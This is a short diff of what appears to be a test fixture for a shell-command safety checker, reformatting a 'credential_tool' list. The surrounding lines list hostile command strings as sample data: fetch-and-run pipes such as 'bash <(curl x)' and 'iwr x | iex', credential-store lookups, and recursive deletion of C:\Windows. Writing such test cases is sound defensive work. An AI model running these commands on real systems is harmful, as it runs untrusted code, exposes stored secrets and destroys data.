@@ -35,7 +35,9 @@ OTHERS = {
         *("bash <(curl x)", 'bash -c "$(curl x)"', 'eval "$(wget -O- x)"', "$(curl x)", "source <(curl x)"),
         *("curl x | (cd /tmp; sh)", 'sh <<< "$(curl x)"', "pwsh -c 'iwr x | iex'"),
     ],
-    "credential_tool": ["security find-generic-password", "secret-tool lookup a b", "keyctl show", "/usr/bin/kwalletcli x"],
+    "credential_tool": [
+        *("security find-generic-password", "secret-tool lookup a b", "keyctl show", "/usr/bin/kwalletcli x"),
+    ],
     "delete_system": [
         'powershell -Command "Remove-Item -Recurse -Force C:\\Windows"',
         "pwsh -c 'ri -r -fo C:\\'",
